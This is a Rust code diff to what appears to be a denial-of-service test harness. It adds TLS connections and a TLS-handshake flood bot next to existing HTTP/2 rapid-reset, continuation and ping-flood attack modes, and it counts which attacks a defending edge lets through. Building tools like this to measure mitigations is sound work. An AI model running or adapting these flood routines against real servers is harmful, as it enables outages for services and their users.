@@ -12,7 +12,7 @@ use std::net::{IpAddr, Ipv4Addr, SocketAddr};
 use std::sync::atomic::{AtomicU64, Ordering};
 use std::sync::Arc;
 use std::time::Duration;
-use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
 use tokio::net::{TcpSocket, TcpStream};
 use tokio::time::Instant;
 
@@ -29,6 +29,31 @@ pub struct Ctx {
     pub max_requests: u64,
     /// Bind bots to 127.x.y.z sources (only when the target is on loopback).
     pub spread_sources: bool,
+    /// TLS towards the target (`https://` targets).
+    pub tls: Option<(
+        tokio_rustls::TlsConnector,
+        rustls::pki_types::ServerName<'static>,
+    )>,
+}
+
+/// A connection to the target, plain or TLS.
+pub trait Io: AsyncRead + AsyncWrite + Unpin + Send {}
+impl<T: AsyncRead + AsyncWrite + Unpin + Send> Io for T {}
+
+/// Connect and, for `https://` targets, complete the TLS handshake.
+pub async fn connect_io(ctx: &Ctx, src: IpAddr) -> std::io::Result<Box<dyn Io>> {
+    let s = connect(ctx, src, None).await?;
+    match &ctx.tls {
+        None => Ok(Box::new(s)),
+        Some((c, name)) => {
+            let t = tokio::time::timeout(Duration::from_secs(5), c.connect(name.clone(), s))
+                .await
+                .map_err(|_| {
+                    std::io::Error::new(std::io::ErrorKind::TimedOut, "TLS handshake timed out")
+                })??;
+            Ok(Box::new(t))
+        }
+    }
 }
 
 impl Ctx {
@@ -94,6 +119,7 @@ pub fn spawn(ctx: Arc<Ctx>, group: usize, a: Attack, tasks: &mut Vec<tokio::task
                 Kind::H2RapidReset | Kind::H2Continuation | Kind::H2PingFlood => {
                     h2_bot(&ctx, group, &a, j).await
                 }
+                Kind::TlsHandshake => tls_bot(&ctx, group, &a, j).await,
             }
         }));
     }
@@ -164,8 +190,8 @@ pub struct Resp {
 }
 
 /// Read one response (head and body) from `s`; `None` if the connection ended first.
-pub async fn read_response(
-    s: &mut TcpStream,
+pub async fn read_response<S: AsyncRead + Unpin + ?Sized>(
+    s: &mut S,
     buf: &mut BytesMut,
     head_request: bool,
 ) -> Option<Resp> {
@@ -265,7 +291,7 @@ async fn http_bot(ctx: &Ctx, group: usize, a: &Attack, j: u32) {
     'conn: while ctx.running() {
         let src = bot_addr(group, bot, a.per_prefix);
         bot = (bot + a.connections) % a.sources;
-        let mut s = match connect(ctx, src, None).await {
+        let mut s = match connect_io(ctx, src).await {
             Ok(s) => s,
             Err(_) => {
                 ctx.count_sent();
@@ -603,6 +629,24 @@ async fn h2_bot(ctx: &Ctx, group: usize, a: &Attack, j: u32) {
             } else {
                 tokio::task::yield_now().await;
             }
+        }
+    }
+}
+
+/// Full TLS handshakes, one after another, each on a new connection.
+async fn tls_bot(ctx: &Ctx, group: usize, a: &Attack, j: u32) {
+    let mut bot = j % a.sources;
+    while ctx.running() {
+        let src = bot_addr(group, bot, a.per_prefix);
+        bot = (bot + a.connections) % a.sources;
+        ctx.count_sent();
+        match connect_io(ctx, src).await {
+            // The edge paid for a whole handshake.
+            Ok(mut s) => {
+                ctx.count(Field::AttackPassed);
+                let _ = s.shutdown().await;
+            }
+            Err(_) => ctx.count(Field::AttackCut),
         }
     }
 }
